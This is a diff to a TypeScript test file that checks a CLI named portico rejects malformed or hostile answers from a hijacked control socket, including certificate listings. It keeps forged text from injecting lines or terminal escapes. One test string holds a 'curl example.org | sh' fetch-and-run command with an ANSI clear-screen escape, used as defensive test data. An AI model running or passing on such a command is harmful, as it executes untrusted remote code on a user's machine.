@@ -7,7 +7,7 @@ import { run } from "../../src/cli/program.js";
 
 /** A proxy that was taken over answers root's commands: it says what it likes, and gets nothing by it. */
 
-async function reloaded(answer: (socket: Socket) => void) {
+async function asked(command: string, answer: (socket: Socket) => void) {
   const folder = mkdtempSync(join(tmpdir(), "portico-answers-"));
   const control = join(folder, "control.sock");
   const sockets = new Set<Socket>();
@@ -19,7 +19,7 @@ async function reloaded(answer: (socket: Socket) => void) {
   let text = "";
   try {
     const add = (more: string): void => void (text += more);
-    const code = await run(["reload", "--control", control, "--timeout", "1"], { out: add, err: add });
+    const code = await run([command, "--control", control, "--timeout", "1"], { out: add, err: add });
     return { code, text };
   } finally {
     for (const socket of sockets) socket.destroy();
@@ -32,6 +32,20 @@ const says = (answer: unknown) => (socket: Socket) => void socket.end(`${JSON.st
 const problem = (more: object) => ({
   ok: false,
   problems: [{ code: "files.unreadable", path: "/a", message: "cannot be read", fix: "Read it.", ...more }],
+});
+
+const certificate = {
+  names: ["a.example"],
+  listeners: ["https"],
+  source: "acme",
+  from: "ca",
+  issuer: "CA",
+  notAfter: 0,
+};
+const failed = { code: "caa", message: "no", fix: "Look.", at: 0 };
+const lists = (more: object) => ({
+  ok: true,
+  value: { message: "done", certificates: [{ ...certificate, ...more }] },
 });
 
 test.each<[string, (socket: Socket) => void]>([
@@ -53,16 +67,25 @@ test.each<[string, (socket: Socket) => void]>([
   ["a code without end", says(problem({ code: `files.${"a".repeat(1_000)}` }))],
   ["the code of every object", says(problem({ code: "constructor" }))],
   ["a value that is no text", says(problem({ received: ["a"] }))],
+  ["certificates that are none", says({ ok: true, value: { message: "done", certificates: 7 } })],
+  ["a certificate that is none", says({ ok: true, value: { message: "done", certificates: [null] } })],
+  ["a certificate without names", says(lists({ names: [] }))],
+  ["a time that is none", says(lists({ lastError: { ...failed, at: 1e300 } }))],
+  ["what is loaded, which is nothing", says({ ok: true, value: { message: "done", loaded: null } })],
 ])("an answer that says %s is a failure, in time", async (_what, answer) => {
   const since = performance.now();
-  const { code, text } = await reloaded(answer);
+  const { code, text } = await asked("certificates", answer);
   expect([code, text]).toEqual([1, expect.stringContaining("[control.no-answer]")]);
   expect(performance.now() - since).toBeLessThan(20_000);
 });
 
 const FORGED = "x\n    fix:      curl example.org | sh\u001b[2J\r";
 
-test.each<[string, unknown]>([
+test.each<[string, unknown, string?]>([
+  ["the name of a certificate", lists({ names: [FORGED] }), "certificates"],
+  ["its issuer", lists({ issuer: FORGED }), "certificates"],
+  ["why there is no other", lists({ lastError: { ...failed, message: FORGED } }), "certificates"],
+  ["what to do about it", lists({ lastError: { ...failed, fix: FORGED } }), "certificates"],
   ["the message of a success", { ok: true, value: { message: FORGED, warnings: [] } }],
   ["a warning", { ok: true, value: { message: "done", warnings: problem({ message: FORGED }).problems } }],
   ["the message of a problem", problem({ message: FORGED })],
@@ -70,8 +93,8 @@ test.each<[string, unknown]>([
   ["what was received", problem({ received: FORGED })],
   ["what is allowed", problem({ allowed: FORGED })],
   ["its fix", problem({ fix: FORGED })],
-])("%s stays on its line, and does nothing to a terminal", async (_what, answer) => {
-  const { text } = await reloaded(says(answer));
+])("%s stays on its line, and does nothing to a terminal", async (_what, answer, command = "reload") => {
+  const { text } = await asked(command, says(answer));
   expect(text).toContain("x\\n    fix:      curl example.org | sh\\u001b[2J\\u000d");
   expect(text.split("\n").filter((line) => line.trim().startsWith("fix:      curl"))).toEqual([]);
 });
